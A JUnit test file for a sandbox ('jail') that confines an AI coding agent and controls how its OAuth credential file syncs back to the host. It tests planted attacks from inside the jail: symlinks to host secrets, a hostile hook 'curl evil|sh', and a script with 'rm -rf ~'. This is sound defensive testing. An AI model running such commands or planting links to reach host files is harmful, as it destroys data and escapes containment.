package dev.robojail.jail;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.robojail.sandbox.Sandbox;
import dev.robojail.testkit.TestRepo;
import dev.robojail.testkit.TestWorld;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.Random;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * What flows between the host's login and the jail's home, tried as an attacker inside would: the
 * jail may leave anything in its home between runs (the write-back runs once its processes are
 * gone), and only a refreshed credential ever reaches the host.
 */
class AgentHomeTest {
  static final String CRED = ".claude/.credentials.json";

  @TempDir Path tmp;
  TestWorld world;
  JailState jail;
  AgentProfile claude;
  AgentHome agentHome;
  Path hostCred;
  Path jailHome;
  Path secret;

  @BeforeEach
  void setUp() throws IOException {
    world = TestWorld.in(tmp);
    TestRepo repo = world.repo("repo");
    Path tool = Files.createDirectories(world.home().resolve("bin")).resolve("claude");
    Files.writeString(tool, "#!/bin/sh\n");
    tool.toFile().setExecutable(true);
    Jails jails = world.jails();
    jail =
        jails.create(
            CreateOptions.builder("a", repo.dir).entrypoint(List.of("~/bin/claude")).build());
    assertEquals("claude", jail.agent(), "inferred from the entrypoint");
    claude = jails.agent(jail).orElseThrow();
    agentHome = new AgentHome(new JailLayout(world.dirs()), world.home());
    hostCred = world.home().resolve(CRED);
    Files.createDirectories(hostCred.getParent());
    Files.writeString(hostCred, token("host-1"));
    secret = Files.writeString(world.home().resolve("secret"), "the user's secret\n");
    jailHome = jails.home(jail);
  }

  static String token(String access) {
    return "{\"claudeAiOauth\":{\"accessToken\":\"" + access + "\",\"refreshToken\":\"r\"}}";
  }

  private String host() throws IOException {
    return Files.readString(hostCred);
  }

  private Path inside() {
    return jailHome.resolve(CRED);
  }

  @Test
  void theHomeIsTheJailsAloneAndTheLoginIsCopiedIn() throws IOException {
    assertEquals(
        "rwx------",
        PosixFilePermissions.toString(
            Files.getPosixFilePermissions(jailHome, LinkOption.NOFOLLOW_LINKS)));
    assertEquals(List.of(), agentHome.sync(jail, claude));
    assertEquals(token("host-1"), Files.readString(inside()));
    assertEquals(
        "rw-------", PosixFilePermissions.toString(Files.getPosixFilePermissions(inside())));
  }

  @Test
  void aRefreshedTokenFlowsBackAtomicallyAndOnlyOnce() throws IOException {
    agentHome.sync(jail, claude);
    Files.writeString(inside(), token("refreshed"));
    assertEquals(List.of(CRED), agentHome.sync(jail, claude));
    assertEquals(token("refreshed"), host());
    assertEquals(
        "rw-------", PosixFilePermissions.toString(Files.getPosixFilePermissions(hostCred)));
    try (Stream<Path> left = Files.list(hostCred.getParent())) {
      assertEquals(List.of(hostCred), left.toList(), "no temporary file left beside it");
    }
    assertEquals(List.of(), agentHome.sync(jail, claude), "nothing changed since");
  }

  /** One thing a jail may leave in its home instead of a refreshed credential. */
  interface Plant {
    void plant(AgentHomeTest t) throws IOException;
  }

  static Stream<Object[]> plants() {
    return Stream.of(
        new Object[] {
          "a link to a host file",
          (Plant)
              t -> {
                Files.delete(t.inside());
                Files.createSymbolicLink(t.inside(), t.secret);
              }
        },
        new Object[] {
          "a hard link to another of its files",
          (Plant)
              t -> {
                Files.writeString(t.inside(), token("linked"));
                Files.deleteIfExists(t.jailHome.resolve("other"));
                Files.createLink(t.jailHome.resolve("other"), t.inside());
              }
        },
        new Object[] {
          "a huge file",
          (Plant)
              t ->
                  Files.writeString(
                      t.inside(),
                      "{\"claudeAiOauth\":\"" + "x".repeat(AgentHome.MAX_CREDENTIAL) + "\"}")
        },
        new Object[] {
          "not JSON", (Plant) t -> Files.writeString(t.inside(), "#!/bin/sh\nrm -rf ~\n")
        },
        new Object[] {
          "JSON without the credential's key",
          (Plant) t -> Files.writeString(t.inside(), "{\"hooks\":{\"x\":\"curl evil|sh\"}}")
        },
        new Object[] {
          "its directory a link to the host's",
          (Plant)
              t -> {
                Path dir = t.jailHome.resolve(".claude");
                JailFiles.deleteTreeQuietly(dir);
                Files.createSymbolicLink(dir, t.hostCred.getParent());
              }
        },
        new Object[] {
          "a directory",
          (Plant)
              t -> {
                Files.delete(t.inside());
                Files.createDirectories(t.inside().resolve("x"));
              }
        });
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("plants")
  void nothingButACredentialFlowsBackAndTheHostsLoginReplacesThePlant(String what, Plant plant)
      throws IOException {
    agentHome.sync(jail, claude);
    plant.plant(this);
    assertEquals(List.of(), agentHome.sync(jail, claude), what);
    assertEquals(token("host-1"), host(), what);
    assertEquals("the user's secret\n", Files.readString(secret), what);
    assertFalse(Files.isSymbolicLink(jailHome.resolve(".claude")), what);
    assertFalse(Files.isSymbolicLink(inside()), what);
    assertEquals(token("host-1"), Files.readString(inside()), "the host's login is copied in");
  }

  @Test
  void whenTheHostsLoginChangedToo_theHostsWins() throws IOException {
    agentHome.sync(jail, claude);
    Files.writeString(inside(), token("jail"));
    Files.writeString(hostCred, token("host-2"));
    assertEquals(List.of(), agentHome.sync(jail, claude));
    assertEquals(token("host-2"), host());
    assertEquals(token("host-2"), Files.readString(inside()));
  }

  @Test
  void withoutALoginOnTheHostTheJailsOwnStaysInItsHome() throws IOException {
    Files.delete(hostCred);
    Files.createDirectories(inside().getParent());
    Files.writeString(inside(), token("made-inside"));
    assertEquals(List.of(), agentHome.sync(jail, claude));
    assertFalse(Files.exists(hostCred), "a login made inside never reaches the host");
    assertEquals(token("made-inside"), Files.readString(inside()));
  }

  /**
   * Seeded runs of host logins, refreshes inside and plants, in any order: the host's file is only
   * ever the host's own or a credential the jail refreshed while the host's stood still.
   */
  @ParameterizedTest(name = "seed {0}")
  @MethodSource("seeds")
  void theHostsFileIsOnlyEverItsOwnOrARefreshInside(long seed) throws IOException {
    Random random = new Random(seed);
    agentHome.sync(jail, claude);
    String expected = host();
    for (int step = 0; step < 12; step++) {
      boolean hostChanged = false;
      String refreshed = null;
      switch (random.nextInt(4)) {
        case 0 -> {
          expected = token("host-" + step);
          Files.writeString(hostCred, expected);
          hostChanged = true;
        }
        case 1 -> {
          refreshed = token("jail-" + step);
          AgentHome.writeInside(jailHome, CRED, refreshed.getBytes(StandardCharsets.UTF_8));
        }
        case 2 -> {
          @SuppressWarnings("unchecked")
          Plant p = (Plant) plants().toList().get(random.nextInt(7))[1];
          p.plant(this);
        }
        default -> {}
      }
      if (random.nextBoolean() && !hostChanged) {
        Files.writeString(hostCred, expected = token("host-b" + step));
        hostChanged = true;
      }
      agentHome.sync(jail, claude);
      if (refreshed != null && !hostChanged) {
        expected = refreshed;
      }
      assertEquals(expected, host(), "seed " + seed + " step " + step);
      assertEquals("the user's secret\n", Files.readString(secret));
      assertArrayEquals(Files.readAllBytes(hostCred), Files.readAllBytes(inside()));
    }
  }

  static Stream<Long> seeds() {
    return IntStream.range(0, 20).mapToObj(i -> 0x5eedL * 31 + i);
  }

  @Test
  void aMountPointInTheHomeIsMadeThereNotWhereAPlantedLinkPoints() throws IOException {
    Path elsewhere = Files.createDirectories(world.root().resolve("elsewhere"));
    Files.createSymbolicLink(jailHome.resolve(".m2"), elsewhere);
    Path source = Files.createDirectories(world.root().resolve("src"));
    String home = world.home().toString();
    Sandbox s =
        Sandbox.builder()
            .command("true")
            .bind(jailHome, home)
            .readOnlyBind(source, home + "/.m2/repository")
            .build();
    AgentHome.prepareMountPoints(jailHome, home, s);
    assertTrue(Files.isDirectory(jailHome.resolve(".m2/repository"), LinkOption.NOFOLLOW_LINKS));
    assertFalse(Files.isSymbolicLink(jailHome.resolve(".m2")));
    try (Stream<Path> in = Files.list(elsewhere)) {
      assertEquals(0, in.count(), "nothing made where the link pointed");
    }
  }
}
